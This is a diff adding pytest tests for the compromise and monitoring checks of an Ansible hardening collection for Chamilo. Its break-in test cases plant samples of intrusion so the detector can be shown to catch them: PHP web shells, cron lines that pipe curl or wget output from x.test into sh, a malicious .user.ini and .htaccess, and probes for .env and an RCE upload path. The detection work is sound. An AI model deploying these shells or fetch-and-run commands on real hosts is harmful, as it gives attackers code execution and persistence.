@@ -1,0 +1,360 @@
+# Copyright (c) 2026, the chamilo.hardening maintainers
+# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+from __future__ import annotations
+
+import json
+import os
+import time
+
+import pytest
+
+from ansible_collections.chamilo.hardening.plugins.module_utils import _fail2ban
+from ansible_collections.chamilo.hardening.plugins.module_utils._audit import _compromise, _traces, monitoring
+from ansible_collections.chamilo.hardening.plugins.module_utils._audit._tree import Identity
+from ansible_collections.chamilo.hardening.plugins.module_utils._configuration import VirtualHost
+from ansible_collections.chamilo.hardening.plugins.module_utils._database import Account, DatabaseError, Reader
+from ansible_collections.chamilo.hardening.plugins.module_utils._look import Look, Unseen
+from ansible_collections.chamilo.hardening.plugins.module_utils._running import Job, Process, jobs, processes
+from ansible_collections.chamilo.hardening.plugins.module_utils._site import Php, Site
+
+WEB = 33
+ROTATES = Job("logrotate.timer", "/usr/sbin/logrotate /etc/logrotate.conf")
+MONIT = """
+set mailserver mail.campus.test
+set alert admin@campus.test
+check system $HOST
+  if loadavg (5min) > 4 then alert
+  if memory usage > 90% then alert
+check filesystem root with path /
+  if space usage > 90% then alert
+"""
+
+
+class Host:
+    def __init__(self, tmp_path, monkeypatch):
+        self.root = tmp_path / "chamilo"
+        for folder in ("var/log/ids", "var/upload", "var/cache/prod", "public/main", "public/img", "src", "bin"):
+            (self.root / folder).mkdir(parents=True)
+        for script in ("public/index.php", "src/Kernel.php", *(f"public/main/{n}.php" for n in range(40))):
+            self.file(script, "<?php require 'x.php'; $x = $_GET['y'];", days=100)
+        self.etc = tmp_path / "etc"
+        self.etc.mkdir()
+        self.records = tmp_path / "records"
+        self.records.mkdir()
+        self.log = tmp_path / "access.log"
+        self.log.write_text('192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "-"\n')
+        self.jobs = []
+        self.processes = [Process(1, 0, "systemd", 0)]
+        self.admins = [{"username": "admin", "status": "1", "active": "1", "late": "1"}]
+        self.numbers = dict.fromkeys(("dormant", "never", "twice", "locked", "failures", "addresses"), "0")
+        self.numbers["everybody"] = "30"
+        self.database_answers = True
+        monkeypatch.setattr(_traces, "RECORDS", str(self.records))
+        monkeypatch.setattr(
+            monitoring,
+            "_CONFIGURATION",
+            {name: (f"{self.etc}/{name}/*",) for name in ("monit", "logcheck", "promtail", "telegraf")},
+        )
+        monkeypatch.setattr(monitoring, "_LOGROTATE", (f"{self.etc}/logrotate.d/*",))
+        monkeypatch.setattr(_fail2ban, "running", lambda: None)
+        monkeypatch.setattr(_compromise, "web_users", lambda look: (Identity("www-data", WEB, frozenset({WEB})),))
+        monkeypatch.setattr(_compromise, "_home", lambda name: str(tmp_path / "home"))
+
+    def file(self, path, text, days=0.0):
+        target = self.root / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(text)
+        os.utime(target, (time.time() - days * 86400,) * 2)
+        return target
+
+    def config(self, watcher, text):
+        folder = self.etc / watcher
+        folder.mkdir(exist_ok=True)
+        (folder / "main").write_text(text)
+
+    def record(self, **entries):
+        (self.records / "monitoring.json").write_text(json.dumps(entries))
+
+    def look(self, root=True, environment="prod"):
+        host = VirtualHost("site.conf", 1, ("campus.test",), (), "", access_log=f"{self.log} combined")
+        site = Site(
+            "campus.test",
+            root=str(self.root),
+            environment={"APP_ENV": environment},
+            serving=(host,),
+            addresses=("10.0.0.5",),
+            php=Php(user="www-data"),
+        )
+        it = Look(site, {})
+        it.as_root = root
+        it._known[jobs] = tuple(self.jobs)
+        it._known[processes] = tuple(self.processes)
+        it.database = Reader(Account("chamilo"), ask=self.ask)
+        return it
+
+    def ask(self, sql):
+        if not self.database_answers:
+            raise DatabaseError("The database is gone.")
+        return self.admins if "SELECT username" in sql[:20] else [self.numbers]
+
+
+@pytest.fixture
+def host(tmp_path, monkeypatch):
+    return Host(tmp_path, monkeypatch)
+
+
+OURS = {
+    "resources": monitoring.resources,
+    "auth": monitoring.auth,
+    "accounts": monitoring.accounts,
+    "delivery": monitoring.delivery,
+    "integrity": monitoring.integrity,
+}
+
+
+def test_a_host_that_nobody_watches_fails(host):
+    assert [check(host.look()).status for check in OURS.values()] == ["fail"] * 5
+    assert monitoring.app_log(host.look()).status == "fail"
+
+
+@pytest.mark.parametrize(("done", "hours", "status"), [(True, 2, "pass"), (False, 2, "fail"), (True, 800, "fail")])
+def test_what_the_host_program_wrote_down_counts(host, done, hours, status):
+    host.record(**dict.fromkeys(OURS, {"at": time.time() - hours * 3600, "ok": done}))
+    assert [check(host.look()).status for check in OURS.values()] == [status] * 5
+
+
+def test_without_root_nothing_is_claimed(host):
+    for check in (monitoring.accounts, monitoring.delivery, monitoring.integrity):
+        with pytest.raises(Unseen, match="needs root"):
+            check(host.look(root=False))
+
+
+# --------------------------------------------------------------------------------------------------- errors
+
+
+def logged(host, rotated=True, name="prod.log"):
+    host.file(f"var/log/{name}", "[2026-11-25T13:00:00] request.CRITICAL: Uncaught PHP Exception\n")
+    if rotated:
+        host.config("logrotate.d", f"# chamilo\n/var/log/x.log\n{host.root}/var/log/*.log {{\n  daily\n}}\n")
+        host.jobs.append(ROTATES)
+
+
+def test_a_log_that_is_rotated_and_watched_passes(host):
+    logged(host)
+    host.config(
+        "monit", MONIT + f"check file chamilo path {host.root}/var/log/prod.log\n if match CRITICAL then alert\n"
+    )
+    host.processes.append(Process(9, 1, "monit", 0))
+    finding = monitoring.app_log(host.look())
+    assert finding.status == "pass", finding.evidence
+
+
+def test_logcheck_is_such_a_watcher_too(host):
+    logged(host)
+    host.config("logcheck", f"{host.root}/var/log/prod.log\n")
+    host.jobs.append(Job("/etc/cron.d/logcheck:1", "2 * * * * logcheck /usr/sbin/logcheck"))
+    assert monitoring.app_log(host.look()).status == "pass"
+
+
+def test_monologs_own_rotation_counts(host):
+    logged(host, rotated=False, name="prod-2026-11-25.log")
+    host.record(app_log={"at": time.time(), "ok": True})
+    assert monitoring.app_log(host.look()).status == "pass"
+
+
+@pytest.mark.parametrize(
+    ("prepare", "words"),
+    [
+        (lambda host: None, "not there"),
+        (lambda host: host.file("var/log/prod.log", ""), "is empty"),
+        (lambda host: logged(host, rotated=False), "nothing rotates it and nobody watches it"),
+        (lambda host: (logged(host), host.config("monit", f"# {host.root}/var/log/prod.log\n")), "nobody watches it"),
+        (lambda host: (logged(host), host.config("promtail", f"{host.root}/var/log/prod.log\n")), "does not run"),
+        (lambda host: (logged(host), host.jobs.clear()), "nothing rotates it"),
+    ],
+)
+def test_a_log_that_tells_nobody(host, prepare, words):
+    prepare(host)
+    finding = monitoring.app_log(host.look())
+    assert finding.status == "fail"
+    assert words in finding.evidence
+
+
+def test_a_reader_that_reports_elsewhere_cannot_be_assessed(host):
+    logged(host)
+    host.config("promtail", f"path: {host.root}/var/log/prod.log\n")
+    host.processes.append(Process(9, 1, "promtail", 0))
+    with pytest.raises(Unseen, match="promtail reads"):
+        monitoring.app_log(host.look())
+
+
+# ------------------------------------------------------------------------------- resources, logins, accounts
+
+
+@pytest.mark.parametrize(
+    ("text", "status", "words"),
+    [
+        (MONIT, "pass", "has thresholds"),
+        (MONIT.replace("if space usage > 90% then alert", ""), "fail", "no threshold for disk"),
+        (MONIT.replace("set alert admin@campus.test", ""), "fail", "nobody to mail to"),
+        (MONIT.replace("set mailserver", "# set mailserver"), "fail", "nobody to mail to"),
+    ],
+)
+def test_monit(host, text, status, words):
+    host.config("monit", text)
+    host.processes.append(Process(9, 1, "monit", 0))
+    finding = monitoring.resources(host.look())
+    assert (finding.status, words in finding.evidence) == (status, True), finding.evidence
+
+
+def test_an_agent_reports_elsewhere(host):
+    host.processes.append(Process(9, 1, "prometheus-node", 0))
+    with pytest.raises(Unseen, match="prometheus-node runs"):
+        monitoring.resources(host.look())
+
+
+def test_failed_logins_are_counted_in_the_evidence(host):
+    host.numbers |= {"failures": "213", "addresses": "4"}
+    assert "213 from 4 addresses" in monitoring.auth(host.look()).evidence
+    host.database_answers = False
+    finding = monitoring.auth(host.look())
+    assert finding.status == "fail"
+    assert "In the last 7 days" not in finding.evidence
+
+
+def test_somebody_elses_count_of_failed_logins_cannot_be_assessed(host):
+    host.jobs.append(Job("/etc/cron.d/count:1", "* * * * * root mariadb -e 'SELECT * FROM track_e_login_record'"))
+    with pytest.raises(Unseen, match="/etc/cron.d/count:1"):
+        monitoring.auth(host.look())
+
+
+def test_accounts_give_numbers_and_few_names(host):
+    host.numbers |= {"dormant": "7", "never": "3", "twice": "1", "locked": "2"}
+    host.admins = [{"username": f"admin{n}", "status": "1", "active": "1", "late": "0"} for n in range(8)]
+    finding = monitoring.accounts(host.look())
+    assert finding.status == "fail"
+    assert "7 were not used for 90 days, 3 never" in finding.evidence
+    assert "admin4 and 3 more" in finding.evidence
+
+
+def test_aide_may_keep_its_list_safe(host):
+    host.jobs.append(Job("dailyaidecheck.timer", "/usr/share/aide/bin/dailyaidecheck"))
+    with pytest.raises(Unseen, match=r"dailyaidecheck\.timer"):
+        monitoring.integrity(host.look())
+
+
+# ------------------------------------------------------------------------------------------------- break-ins
+
+
+def test_a_clean_host_shows_no_sign(host):
+    host.file("var/cache/prod/Container.php", "<?php eval($_POST['x']);")  # compiled by Symfony: not looked at
+    host.file("var/upload/homework.phps", "<?php system($_GET['x']);")
+    host.file("public/.htaccess", "AddHandler x .y")
+    host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", f"* * * * * php {host.root}/bin/console app:x"))
+    host.log.write_text(
+        '10.0.0.5 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 200 5 "-" "-"\n'
+        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "-"\n'
+        '192.0.2.1 - - [25/Nov/2026:13:00:00 +0000] "GET /main/a.php HTTP/1.1" 200 5 "/x.phtml" "-"\n'
+    )
+    finding = monitoring.compromise(host.look())
+    assert finding.status == "pass", finding.evidence
+    assert monitoring.signs(host.look()) == []
+
+
+def plant(path, text="<?php echo 1;", days=0.0):
+    return lambda host: host.file(path, text, days)
+
+
+def request(line, client="192.0.2.66"):
+    def add(host):
+        with host.log.open("a") as file:
+            file.write(f'{client} - - [25/Nov/2026:13:00:00 +0000] {line} 200 5 "-" "-"\n')
+
+    return add
+
+
+def admin(**values):
+    return lambda host: host.admins.append({"username": "eve", "status": "1", "active": "1", "late": "0", **values})
+
+
+@pytest.mark.parametrize(
+    ("plant", "words"),
+    [
+        (plant("var/upload/x.php"), "var/upload/x.php"),
+        (plant("var/themes/x.PhAr"), "var/themes/x.PhAr"),
+        (plant("var/upload/.htaccess", "AddHandler application/x-httpd-php .jpg"), "var/upload/.htaccess"),
+        (plant("public/img/logo.php", days=100), "PHP among assets: public/img/logo.php"),
+        (plant("public/main/old.php", "<?php @eval(base64_decode('x'));", days=200), "web shell: public/main/old.php"),
+        (plant("public/main/c.php", "<?php system($_GET['c']);", days=100), "public/main/c.php"),
+        (plant("public/main/d.php", "<?php $_POST['f']($_POST['x']);", days=100), "public/main/d.php"),
+        (plant("public/main/e.php", "<?php $k = $_POST['x'];\n$y = base64_decode($k);"), "public/main/e.php"),
+        (plant("public/news.php"), "public/news.php"),
+        (plant("public/main/.user.ini", "auto_prepend_file = /tmp/x"), "public/main/.user.ini"),
+        (admin(status="5"), "pupils with an administrator's rights: eve"),
+        (admin(late="1"), "administrators made in the last 30 days: eve"),
+        (request('"GET /.env HTTP/1.1"'), "the environment file answered a stranger 1 times"),
+        (request('"GET /dump.sql HTTP/1.1"'), "a database dump"),
+        (request('"GET /main/inc/lib/javascript/bigupload/files/rce.php?c=id HTTP/1.1"'), "bigUpload"),
+        (request('"POST /img/logo.php HTTP/1.1"'), "a PHP file among assets"),
+        (request('"GET /x/y.pht HTTP/1.1"'), "a rare kind"),
+        (request('"POST /main/install/index.php HTTP/1.1"'), "the installer"),
+        (
+            lambda host: host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", "* * * * * curl -s x.test | sh")),
+            "a cron job of the web user",
+        ),
+        (
+            lambda host: host.jobs.append(Job("/etc/cron.d/x:3", "* * * * * www-data wget -q -O- http://x.test | sh")),
+            "runs as the web user",
+        ),
+        (
+            lambda host: (
+                (host.root.parent / "home/.ssh").mkdir(parents=True)
+                or (host.root.parent / "home/.ssh/authorized_keys").write_text("ssh-ed25519 AAAA eve\n")
+            ),
+            "authorized_keys",
+        ),
+    ],
+)
+def test_signs(host, plant, words):
+    env = host.file(".env", "APP_ENV=prod\n", days=400)
+    os.utime(env, (time.mktime((2026, 1, 1, 0, 0, 0, 0, 0, -1)),) * 2)
+    plant(host)
+    finding = monitoring.compromise(host.look())
+    assert finding.status == "fail"
+    assert words in finding.evidence
+    assert len(monitoring.signs(host.look())) == 1
+
+
+def test_a_process_of_the_web_user_that_is_no_server(host, monkeypatch):
+    host.processes += [Process(50, 1, "kworkerd", WEB), Process(51, 1, "php-fpm8.4", WEB), Process(52, 1, "sh", WEB)]
+    programs = {"50": "/dev/shm/.x/kworkerd", "51": "/usr/sbin/php-fpm8.4", "52": "/usr/bin/dash"}
+    monkeypatch.setattr(_compromise.os, "readlink", lambda path: programs[path.split("/")[2]])
+    found = monitoring.signs(host.look())
+    assert len(found) == 1
+    assert "process 50" in found[0]
+    assert "process 52" in found[0]
+
+
+def test_what_could_not_be_looked_at_is_never_a_pass(host):
+    host.database_answers = False
+    with pytest.raises(Unseen, match="The database is gone"):
+        monitoring.compromise(host.look())
+    host.database_answers = True
+    with pytest.raises(Unseen, match="root is needed"):
+        monitoring.compromise(host.look(root=False))
+    host.log.unlink()
+    with pytest.raises(Unseen, match="no access log"):
+        monitoring.compromise(host.look())
+
+
+def test_a_sign_counts_whatever_else_was_not_seen(host):
+    host.database_answers = False
+    host.file("var/upload/x.php", "<?php")
+    assert monitoring.compromise(host.look()).status == "fail"
+
+
+def test_a_name_that_could_harm_a_terminal_is_escaped(host):
+    host.file("var/upload/\x1b[2Jx.php", "<?php")
+    assert "\x1b" not in monitoring.compromise(host.look()).evidence
